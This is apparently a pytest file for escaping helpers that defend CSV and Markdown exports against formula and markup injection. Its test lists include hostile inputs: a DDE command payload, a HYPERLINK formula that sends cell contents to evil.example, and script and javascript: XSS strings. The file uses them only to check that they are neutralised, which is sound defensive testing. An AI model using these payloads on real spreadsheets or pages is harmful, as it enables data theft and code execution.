"""csv_cell / csv_text and md_text: the escaping every CSV and Markdown document uses."""

from __future__ import annotations

import csv
import html
import io
import re
from typing import Any

import pytest

from pipelines.escaping import FORMULA_TRIGGERS, csv_cell, csv_text, md_text

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1",
            "＝1+1", "＋1", "－1", "＠A1", "  =1+1", "\u3000=1", " \t@x",
            '=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0"]
PLAIN = ["闫俊杰", "Sam Altman", "1.5", "", "'=already quoted", "a=b", "x-y", "e@mail"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_gets_a_quote_before_it(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_is_left_alone(value: str) -> None:
    assert csv_cell(value) == value


def test_csv_text_quotes_every_field_and_reads_back() -> None:
    rows: list[list[Any]] = [[1, "=1+1", 'a "b", c', None, 2.5], [2, "x\ny", "-3", "ok", ""]]
    text = csv_text(["id", "=h", "c", "d", "e"], rows)
    assert text.splitlines()[0] == '"id","\'=h","c","d","e"'
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back == [["id", "'=h", "c", "d", "e"], ["1", "'=1+1", 'a "b", c', "", "2.5"],
                    ["2", "x\ny", "'-3", "ok", ""]]
    assert not any(cell[:1] in FORMULA_TRIGGERS for row in back for cell in row)


HOSTILE_MD = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- x -->", "<?php ?>",
    "<http://evil.example>", "[click](javascript:alert(1))", "![i](http://evil.example/a.png)",
    "[ref] [x]", "[x][]", "[x]: http://evil.example", "[^1]: note", "a | b | c",
    "# heading", "## h2", "> quote", "- item", "+ item", "* item", "1. one", "2) two",
    "---", "===", "***", "```js", "~~~", "`code`", "**bold** __b__ *i* _i_", "~~gone~~",
    "line one\n# two\n\n> three", "\\[not a link](x)", "\\", "&lt;b&gt;", "AT&T", "&#60;b&#62;",
    "[laughs] yes [restricted]", "闫俊杰：我们很早就决定做 MoE 架构。", "a\u2028b\u2029c\x85d",
    "x\x00<b>y",
]


def _render(md: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return str(markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
               .render(md))


@pytest.mark.parametrize("value", HOSTILE_MD)
@pytest.mark.parametrize("where", ["{}", "# {}", "- **k**: {}",
                                   "| {} | x |\n|---|---|\n| {} | y |"])
def test_markdown_text_reads_as_itself_and_nothing_more(value: str, where: str) -> None:
    md = where.format(md_text(value), md_text(value))
    rendered = _render(md)
    # One block of the kind the document put there, and no element the text brought.
    expected = {"{}": ["p"], "# {}": ["h1"], "- **k**: {}": ["ul", "li", "strong"]}.get(
        where, ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"])
    assert re.findall(r"<([a-z0-9]+)", rendered) == expected, rendered
    if where.startswith("|"):
        assert all(len(re.findall(r"<t[dh]>", row)) == 2
                   for row in re.findall(r"<tr>(.*?)</tr>", rendered, flags=re.S)), rendered
    visible = " ".join(html.unescape(re.sub(r"<[^>]+>", " ", rendered)).split())
    assert " ".join(value.replace("\x00", "").split()) in visible, (md, rendered)
